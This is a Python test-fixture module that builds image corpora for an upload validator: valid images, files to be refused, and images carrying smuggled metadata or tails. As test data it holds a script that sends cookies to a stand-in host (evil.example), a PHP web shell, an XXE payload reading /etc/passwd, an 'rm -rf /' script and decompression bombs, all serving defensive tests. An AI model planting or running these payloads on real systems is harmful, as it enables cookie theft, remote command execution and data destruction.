"""Builders for test images, made in memory so that no binary fixture is committed.

Every builder is deterministic and cheap (small images; the corpora are built once and cached), so
API tests can reuse them freely. The corpora are the contract of ``tracker.imaging``:

- every file of :func:`hostile_corpus` must be refused with ``ImageRejected`` (never another
  exception), with the code given by :func:`hostile_cases`;
- every file of :func:`valid_corpus` must be accepted, and comes back with the size given by
  :func:`valid_cases` (after EXIF orientation);
- every file of :func:`smuggled_cases` is accepted, and its marker bytes must be absent from the
  re-encoded output.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from functools import cache
from typing import NamedTuple

import pillow_heif
from PIL import Image, ImageCms, ImageDraw

pillow_heif.register_heif_opener()

SECRET = b"FIXTURE-SECRET-42"
"""Appears in EXIF, comments, text chunks and tails: it must never survive sanitising."""

HTML_TAIL = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script>"
PHP_TAIL = b"<?php system($_GET['cmd']); ?>"

GPS_LATITUDE = (48.0, 51.0, 24.36)
GPS_LONGITUDE = (2.0, 21.0, 7.92)


class HostileFile(NamedTuple):
    name: str
    data: bytes
    code: str
    """The ``ImageRejected.code`` a validator must raise."""


class ValidFile(NamedTuple):
    name: str
    data: bytes
    size: tuple[int, int]
    """(width, height) after applying EXIF orientation."""


class SmuggledFile(NamedTuple):
    name: str
    data: bytes
    marker: bytes
    """Bytes that must not appear in the sanitised output."""


# --- pixels -------------------------------------------------------------------------------------


def photo_like(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A deterministic, asymmetric picture: gradients plus a red top-left corner.

    The red corner makes orientation testable: after a rotation it moves to a known corner.
    """
    width, height = size
    grad_x = Image.linear_gradient("L").resize((width, height))
    grad_y = Image.linear_gradient("L").transpose(Image.Transpose.ROTATE_90).resize((width, height))
    img = Image.merge("RGB", (grad_x, grad_y, Image.new("L", size, 96)))
    draw = ImageDraw.Draw(img)
    draw.rectangle((0, 0, max(width // 4, 1) - 1, max(height // 4, 1) - 1), fill=(255, 0, 0))
    draw.ellipse((width // 3, height // 3, 2 * width // 3, 2 * height // 3), fill=(120, 60, 40))
    if mode == "RGB":
        return img
    if mode in {"RGBA", "LA", "PA"}:
        alpha = Image.linear_gradient("L").resize(size)
        base = img.convert("RGBA") if mode != "LA" else img.convert("L").convert("LA")
        base.putalpha(alpha)
        if mode == "PA":
            # A palette with per-entry alpha: written to PNG as P plus a tRNS chunk.
            return base.quantize(method=Image.Quantize.FASTOCTREE)
        return base
    return img.convert(mode)


def gps_exif(*, orientation: int | None = None) -> Image.Exif:
    """EXIF as a phone writes it: camera, timestamp, GPS position, and a secret description."""
    exif = Image.Exif()
    exif[0x010F] = "FIXTURE-CAM"  # Make
    exif[0x0110] = "Model 42"  # Model
    exif[0x010E] = SECRET.decode()  # ImageDescription
    exif[0x0132] = "2024:05:01 10:11:12"  # DateTime
    if orientation is not None:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = GPS_LATITUDE
    gps[3] = "E"
    gps[4] = GPS_LONGITUDE
    return exif


@cache
def display_p3_icc() -> bytes:
    """A minimal ICC v2 matrix/TRC profile with Display P3 primaries (as iPhones embed).

    Hand-built because ImageCms cannot create RGB profiles with arbitrary primaries.
    """

    def s15(v: float) -> bytes:
        return struct.pack(">i", round(v * 65536))

    def xyz(x: float, y: float, z: float) -> bytes:
        return b"XYZ \0\0\0\0" + s15(x) + s15(y) + s15(z)

    def desc(text: str) -> bytes:
        ascii_ = text.encode() + b"\0"
        return (
            b"desc\0\0\0\0"
            + struct.pack(">I", len(ascii_))
            + ascii_
            + b"\0" * 8  # unicode language and count
            + b"\0" * 3  # scriptcode code and count
            + b"\0" * 67
        )

    gamma = b"curv\0\0\0\0" + struct.pack(">IH", 1, 0x0233)  # gamma 2.2 in u8Fixed8
    tags = [
        (b"desc", desc("Fixture Display P3")),
        (b"cprt", b"text\0\0\0\0No copyright\0"),
        (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", xyz(0.515121, 0.241196, -0.001053)),
        (b"gXYZ", xyz(0.291977, 0.692245, 0.041885)),
        (b"bXYZ", xyz(0.157104, 0.066574, 0.784073)),
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
    ]
    table = b""
    body = b""
    offset = 128 + 4 + 12 * len(tags)
    for sig, data in tags:
        padded = data + b"\0" * (-len(data) % 4)
        table += sig + struct.pack(">II", offset + len(body), len(data))
        body += padded
    size = offset + len(body)
    header = (
        struct.pack(">I", size)
        + b"\0\0\0\0"
        + bytes((2, 0x10, 0, 0))
        + b"mntrRGB XYZ "
        + struct.pack(">6H", 2024, 1, 1, 0, 0, 0)
        + b"acsp"
        + b"\0" * 28
        + s15(0.9642)
        + s15(1.0)
        + s15(0.8249)
        + b"\0" * 48
    )
    if len(header) != 128:
        raise AssertionError("ICC header must be 128 bytes")
    return header + struct.pack(">I", len(tags)) + table + body


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


# --- encoders -----------------------------------------------------------------------------------


def encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **params)
    return buf.getvalue()


def jpeg_bytes(
    size: tuple[int, int] = (64, 48),
    *,
    mode: str = "RGB",
    exif: Image.Exif | None = None,
    **params: object,
) -> bytes:
    img = photo_like(size, mode)
    if exif is not None:
        params["exif"] = exif.tobytes()
    return encode(img, "JPEG", quality=90, **params)


def jpeg_with_gps(*, orientation: int | None = None, size: tuple[int, int] = (40, 20)) -> bytes:
    """A phone-like JPEG: GPS EXIF (and optionally an orientation tag)."""
    return jpeg_bytes(size, exif=gps_exif(orientation=orientation))


def png_bytes(size: tuple[int, int] = (64, 48), *, mode: str = "RGB", **params: object) -> bytes:
    return encode(photo_like(size, mode), "PNG", **params)


def png_with_html_tail() -> bytes:
    return png_bytes() + HTML_TAIL


def heic_bytes(
    size: tuple[int, int] = (64, 48),
    *,
    mode: str = "RGB",
    exif: Image.Exif | None = None,
    **params: object,
) -> bytes:
    if exif is not None:
        params["exif"] = exif.tobytes()
    return encode(photo_like(size, mode), "HEIF", quality=80, **params)


def _png_chunk(kind: bytes, data: bytes, *, crc: int | None = None) -> bytes:
    checksum = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum & 0xFFFFFFFF)


def raw_png(
    width: int,
    height: int,
    *,
    bit_depth: int = 8,
    color_type: int = 2,
    idat: bytes,
    before_idat: tuple[bytes, ...] = (),
    ihdr_crc: int | None = None,
    iend: bool = True,
) -> bytes:
    """A PNG assembled chunk by chunk, for what Pillow refuses to write."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr, crc=ihdr_crc)
        + b"".join(before_idat)
        + _png_chunk(b"IDAT", idat)
        + (_png_chunk(b"IEND", b"") if iend else b"")
    )


def _zeros_deflated(total: int, *, level: int = 9) -> bytes:
    """zlib stream of ``total`` zero bytes, fed in slices so it stays cheap in memory."""
    comp = zlib.compressobj(level)
    block = bytes(1 << 20)
    out = []
    remaining = total
    while remaining:
        n = min(remaining, len(block))
        out.append(comp.compress(block[:n]))
        remaining -= n
    out.append(comp.flush())
    return b"".join(out)


def png_rgb16(size: tuple[int, int] = (32, 24), *, alpha: bool = False) -> bytes:
    """16-bit-per-channel RGB(A) PNG (Pillow cannot write these)."""
    width, height = size
    channels = 4 if alpha else 3
    rows = []
    for y in range(height):
        row = bytearray(b"\x00")
        for x in range(width):
            px = [x * 65535 // max(width - 1, 1), y * 65535 // max(height - 1, 1), 20000]
            if alpha:
                px.append(65535 if x < width // 2 else 30000)
            row += struct.pack(f">{channels}H", *px)
        rows.append(bytes(row))
    return raw_png(
        width,
        height,
        bit_depth=16,
        color_type=6 if alpha else 2,
        idat=zlib.compress(b"".join(rows)),
    )


def decompression_bomb_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A PNG declaring ``width`` x ``height`` RGB pixels (1.2 GB decoded), tiny on disk.

    Only the first rows are deflated, to keep the builder fast: the header is what a validator
    must refuse, before any decoding starts.
    """
    row = 1 + 3 * width
    return raw_png(width, height, idat=_zeros_deflated(row * min(height, 64)))


def bilevel_png(width: int, height: int) -> bytes:
    """A complete, valid 1-bit PNG: few bytes on disk, ``width * height`` pixels decoded."""
    row = 1 + (width + 7) // 8
    return raw_png(width, height, bit_depth=1, color_type=0, idat=_zeros_deflated(row * height))


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, payload) pairs up to and including SOS; for asserting what a JPEG carries."""
    if data[:2] != b"\xff\xd8":
        raise ValueError("not a JPEG")
    segments: list[tuple[int, bytes]] = [(0xD8, b"")]
    pos = 2
    while pos + 4 <= len(data):
        if data[pos] != 0xFF:
            raise ValueError(f"no marker at {pos}")
        marker = data[pos + 1]
        if marker == 0xFF:
            pos += 1
            continue
        (length,) = struct.unpack(">H", data[pos + 2 : pos + 4])
        segments.append((marker, data[pos + 4 : pos + 2 + length]))
        pos += 2 + length
        if marker == 0xDA:
            break
    return segments


def _jpeg_declared_size(data: bytes, width: int, height: int) -> bytes:
    """Rewrite the frame header (SOFn) so the JPEG declares another size than it encodes."""
    out = bytearray(data)
    pos = 2
    while pos < len(out):
        marker = out[pos + 1]
        (length,) = struct.unpack(">H", out[pos + 2 : pos + 4])
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
            struct.pack_into(">HH", out, pos + 5, height, width)
            return bytes(out)
        pos += 2 + length
    raise ValueError("no SOF marker")


def _sos_end(data: bytes) -> int:
    pos = 2
    while True:
        marker = data[pos + 1]
        length = int.from_bytes(data[pos + 2 : pos + 4], "big")
        pos += 2 + length
        if marker == 0xDA:
            return pos


def _heic_declared_size(data: bytes, width: int, height: int) -> bytes:
    pos = data.index(b"ispe")
    return data[: pos + 8] + struct.pack(">II", width, height) + data[pos + 16 :]


def ftyp_box(major: bytes, *compatible: bytes) -> bytes:
    """An ISO-BMFF ``ftyp`` box, the head of HEIC, AVIF and MP4 files."""
    body = major + b"\0\0\0\0" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    return buf.getvalue()


# --- single hostile files used by name in tests ---------------------------------------------------

SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
    b'<script>alert(document.domain)</script><rect width="40" height="20" fill="red"/></svg>'
)
TEXT = b"Hello doctor, the rash is worse today. This is not a photo.\n"


def truncated_jpeg() -> bytes:
    data = jpeg_bytes((256, 192))
    return data[: len(data) // 2]


def gif_bytes() -> bytes:
    return encode(photo_like().convert("P"), "GIF")


def tiff_bytes() -> bytes:
    return encode(photo_like(), "TIFF")


def pdf_bytes() -> bytes:
    return encode(photo_like(), "PDF")


def webp_bytes(*, lossless: bool = False) -> bytes:
    return encode(photo_like(), "WEBP", lossless=lossless)


def avif_bytes() -> bytes:
    return encode(photo_like(), "AVIF")


# --- corpora ------------------------------------------------------------------------------------


@cache
def _hostile() -> tuple[HostileFile, ...]:
    jpeg = jpeg_bytes((128, 96))
    progressive = jpeg_bytes((128, 96), progressive=True)
    png = png_bytes((128, 96))
    heic = heic_bytes((128, 96))
    gif = gif_bytes()
    animated = encode(
        photo_like().convert("P"),
        "GIF",
        save_all=True,
        append_images=[photo_like().rotate(90).convert("P")],
    )
    idat_pos = png.index(b"IDAT")
    tiff_be_header = b"MM\x00*\x00\x00\x00\x08" + bytes(64)
    psd = b"8BPS\x00\x01" + bytes(6) + struct.pack(">HIIHH", 3, 20, 40, 8, 3) + bytes(64)
    u = "unsupported_type"
    cases = [
        HostileFile("empty.jpg", b"", "empty"),
        HostileFile("one_byte.jpg", b"\xff", u),
        HostileFile("text_named.jpg", TEXT, u),
        HostileFile("utf8_bom_text.jpg", b"\xef\xbb\xbf" + TEXT, u),
        HostileFile("html_named.jpg", b"<!DOCTYPE html>" + HTML_TAIL, u),
        HostileFile("script.svg", SVG, u),
        HostileFile("svg_named.jpg", SVG, u),
        HostileFile(
            "xxe.xml",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
            b'"file:///etc/passwd">]><x>&e;</x>',
            u,
        ),
        HostileFile("data.json", b'{"image": "not really"}', u),
        HostileFile("null_bytes.jpg", bytes(1024), u),
        HostileFile("still.gif", gif, u),
        HostileFile("animated.gif", animated, u),
        HostileFile("little_endian.tiff", tiff_bytes(), u),
        HostileFile("big_endian_tiff.jpg", tiff_be_header, u),
        HostileFile("bitmap.bmp", encode(photo_like(), "BMP"), u),
        HostileFile("netpbm.ppm", encode(photo_like(), "PPM"), u),
        HostileFile("targa.jpg", encode(photo_like(), "TGA"), u),
        HostileFile("icon.ico", encode(photo_like(), "ICO"), u),
        HostileFile("document.pdf", pdf_bytes(), u),
        HostileFile("postscript.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 40 20\n", u),
        HostileFile("photoshop.psd", psd, u),
        HostileFile("lossy.webp", webp_bytes(), u),
        HostileFile("lossless.webp", webp_bytes(lossless=True), u),
        HostileFile("photo.avif", avif_bytes(), u),
        HostileFile("mif1_avif.heic", ftyp_box(b"mif1", b"mif1", b"avif", b"miaf") + bytes(64), u),
        HostileFile("picture.jp2", encode(photo_like(), "JPEG2000"), u),
        HostileFile("codestream.j2c", encode(photo_like(), "JPEG2000", no_jp2=True), u),
        HostileFile("codestream.jxl", b"\xff\x0a" + bytes(64), u),
        HostileFile("video.mp4", ftyp_box(b"isom", b"isom", b"iso2", b"mp41") + bytes(64), u),
        HostileFile("video.mov", ftyp_box(b"qt  ", b"qt  ") + bytes(64), u),
        HostileFile("archive.jpg", _zip("photo.jpg", jpeg), u),
        HostileFile("compressed.jpg.gz", gzip.compress(jpeg, mtime=0), u),
        HostileFile("program.exe", b"MZ\x90\x00" + bytes(60) + b"PE\0\0", u),
        HostileFile("program.elf", b"\x7fELF\x02\x01\x01" + bytes(57), u),
        HostileFile("script.sh", b"#!/bin/sh\nrm -rf /\n", u),
        HostileFile("html_then_jpeg.jpg", b"<html><script>alert(1)</script>" + jpeg, u),
        HostileFile("gifar.gif", gif + _zip("Evil.class", b"\xca\xfe\xba\xbe"), u),
        HostileFile("png_bad_signature.png", b"\x89PNG\r\n\x1a\x00" + png[8:], u),
        HostileFile("jpeg_bad_magic.jpg", b"\xff\xd8\x00" + jpeg[3:], u),
        # Magic bytes right, content wrong.
        HostileFile("jpeg_half.jpg", truncated_jpeg(), "truncated"),
        HostileFile("jpeg_no_eoi.jpg", jpeg[:-2], "truncated"),
        HostileFile("jpeg_headers_only.jpg", jpeg[: _sos_end(jpeg)], "truncated"),
        HostileFile("jpeg_progressive_cut.jpg", progressive[: len(progressive) // 2], "truncated"),
        HostileFile("jpeg_app0_cut.jpg", jpeg[:12], "truncated"),
        HostileFile("png_half.png", png[: idat_pos + 200], "truncated"),
        HostileFile("heic_half.heic", heic[: len(heic) // 2], "truncated"),
        # Pillow cannot tell a header cut short from a garbled one: both are "corrupt".
        HostileFile("jpeg_soi_only.jpg", b"\xff\xd8\xff", "corrupt"),
        HostileFile("png_signature_only.png", png[:8], "corrupt"),
        HostileFile("jpeg_garbage.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 8, "corrupt"),
        HostileFile("jpeg_zero_width.jpg", _jpeg_declared_size(jpeg, 0, 96), "corrupt"),
        HostileFile("png_bad_ihdr_crc.png", raw_png(8, 8, idat=b"", ihdr_crc=0), "corrupt"),
        HostileFile("png_bad_bit_depth.png", raw_png(8, 8, bit_depth=3, idat=b""), "corrupt"),
        HostileFile("png_garbage_idat.png", raw_png(8, 8, idat=b"\x00not zlib" * 8), "corrupt"),
        HostileFile(
            "png_ztxt_bomb.png",
            raw_png(
                8,
                8,
                idat=zlib.compress(bytes(8 * 25)),
                before_idat=(_png_chunk(b"zTXt", b"Comment\0\0" + _zeros_deflated(8 << 20)),),
            ),
            "corrupt",
        ),
        HostileFile(
            "png_iccp_bomb.png",
            raw_png(
                8,
                8,
                idat=zlib.compress(bytes(8 * 25)),
                before_idat=(_png_chunk(b"iCCP", b"icc\0\0" + _zeros_deflated(8 << 20)),),
            ),
            "corrupt",
        ),
        HostileFile("heic_garbage.heic", heic[:32] + bytes(range(256)) * 4, "corrupt"),
        HostileFile("bomb_20000x20000.png", decompression_bomb_png(), "too_many_pixels"),
        HostileFile("bilevel_64mp.png", bilevel_png(8_000, 8_000), "too_many_pixels"),
        HostileFile("tall_1x50m.png", raw_png(1, 50_000_000, idat=b""), "too_many_pixels"),
        HostileFile(
            "jpeg_65000sq.jpg", _jpeg_declared_size(jpeg, 65_000, 65_000), "too_many_pixels"
        ),
        HostileFile("jpeg_100mp.jpg", _jpeg_declared_size(jpeg, 10_000, 10_000), "too_many_pixels"),
        HostileFile("jpeg_48mp.jpg", _jpeg_declared_size(jpeg, 8_000, 6_000), "too_many_pixels"),
        HostileFile("heic_48mp.heic", _heic_declared_size(heic, 8_000, 6_000), "too_many_pixels"),
    ]
    return tuple(cases)


def hostile_cases() -> list[HostileFile]:
    """Files that must be refused, each with the expected ``ImageRejected.code``."""
    return list(_hostile())


def hostile_corpus() -> list[tuple[str, bytes]]:
    """(name, bytes) of files that must all be refused. Names are what a client might send."""
    return [(f.name, f.data) for f in _hostile()]


@cache
def _smuggled() -> tuple[SmuggledFile, ...]:
    jpeg = jpeg_bytes()
    return (
        SmuggledFile("png_html_tail.png", png_with_html_tail(), HTML_TAIL),
        SmuggledFile("jpeg_php_tail.jpg", jpeg + PHP_TAIL, PHP_TAIL),
        SmuggledFile("jpeg_zip_tail.jpg", jpeg + _zip("x.php", PHP_TAIL), b"x.php"),
        SmuggledFile("jpeg_gps_exif.jpg", jpeg_with_gps(), SECRET),
        SmuggledFile("jpeg_comment.jpg", jpeg_bytes(comment=SECRET), SECRET),
        SmuggledFile(
            "jpeg_xmp.jpg", jpeg_bytes(xmp=b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>"), SECRET
        ),
        SmuggledFile("png_text_chunk.png", png_bytes(pnginfo=_pnginfo()), SECRET),
        SmuggledFile("png_exif_chunk.png", png_bytes(exif=gps_exif().tobytes()), SECRET),
        SmuggledFile("heic_gps_exif.heic", heic_bytes(exif=gps_exif()), SECRET),
    )


def _pnginfo() -> object:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_text("Location", SECRET.decode(), zip=True)
    info.add_itxt("Author", SECRET.decode())
    return info


def smuggled_cases() -> list[SmuggledFile]:
    """Accepted files carrying metadata or a tail whose ``marker`` must not survive."""
    return list(_smuggled())


@cache
def _valid() -> tuple[ValidFile, ...]:
    p3 = display_p3_icc()
    cases = [
        ValidFile("baseline.jpg", jpeg_bytes(), (64, 48)),
        ValidFile("progressive.jpg", jpeg_bytes(progressive=True), (64, 48)),
        ValidFile("subsampling_444.jpg", jpeg_bytes(subsampling=0), (64, 48)),
        ValidFile("grayscale.jpg", jpeg_bytes(mode="L"), (64, 48)),
        ValidFile("cmyk.jpg", jpeg_bytes(mode="CMYK"), (64, 48)),
        ValidFile("srgb_icc.jpg", jpeg_bytes(icc_profile=srgb_icc()), (64, 48)),
        ValidFile("display_p3.jpg", jpeg_bytes(icc_profile=p3), (64, 48)),
        ValidFile("cmyk_with_rgb_icc.jpg", jpeg_bytes(mode="CMYK", icc_profile=p3), (64, 48)),
        ValidFile("broken_icc.jpg", jpeg_bytes(icc_profile=b"not a profile" * 4), (64, 48)),
        ValidFile("tiny.jpg", jpeg_bytes((1, 1)), (1, 1)),
        ValidFile("panorama.jpg", jpeg_bytes((2000, 50)), (2000, 50)),
        ValidFile(
            "multi_picture.mpo",
            encode(photo_like(), "MPO", save_all=True, append_images=[photo_like()]),
            (64, 48),
        ),
        ValidFile("png_rgb.png", png_bytes(), (64, 48)),
        ValidFile("png_rgba.png", png_bytes(mode="RGBA"), (64, 48)),
        ValidFile("png_gray.png", png_bytes(mode="L"), (64, 48)),
        ValidFile("png_gray_alpha.png", png_bytes(mode="LA"), (64, 48)),
        ValidFile("png_palette.png", png_bytes(mode="P"), (64, 48)),
        ValidFile("png_palette_alpha.png", png_bytes(mode="PA"), (64, 48)),
        ValidFile("png_palette_trns.png", png_bytes(mode="P", transparency=0), (64, 48)),
        ValidFile("png_bilevel.png", png_bytes(mode="1"), (64, 48)),
        ValidFile("png_gray16.png", encode(photo_like().convert("I;16"), "PNG"), (64, 48)),
        ValidFile("png_rgb16.png", png_rgb16(), (32, 24)),
        ValidFile("png_rgba16.png", png_rgb16(alpha=True), (32, 24)),
        ValidFile("png_display_p3.png", png_bytes(icc_profile=p3), (64, 48)),
        ValidFile("png_no_iend.png", png_bytes()[:-12], (64, 48)),
        ValidFile("heic.heic", heic_bytes(), (64, 48)),
        ValidFile("heic_alpha.heic", heic_bytes(mode="RGBA"), (64, 48)),
        ValidFile("heic_gray.heic", heic_bytes(mode="L"), (64, 48)),
        ValidFile("heic_display_p3.heic", heic_bytes(icc_profile=p3), (64, 48)),
        ValidFile(
            "heic_rotated6.heic", heic_bytes((40, 20), exif=gps_exif(orientation=6)), (20, 40)
        ),
    ]
    cases += [
        ValidFile(
            f"jpeg_orientation{o}.jpg",
            jpeg_with_gps(orientation=o),
            (20, 40) if o >= 5 else (40, 20),
        )
        for o in range(1, 9)
    ]
    cases += [ValidFile(s.name, s.data, _size_of(s.name)) for s in _smuggled()]
    return tuple(cases)


def _size_of(name: str) -> tuple[int, int]:
    return (40, 20) if name == "jpeg_gps_exif.jpg" else (64, 48)


def valid_cases() -> list[ValidFile]:
    """Files that must be accepted, with their (width, height) once oriented."""
    return list(_valid())


def valid_corpus() -> list[tuple[str, bytes]]:
    """(name, bytes) of files that must all be accepted."""
    return [(f.name, f.data) for f in _valid()]
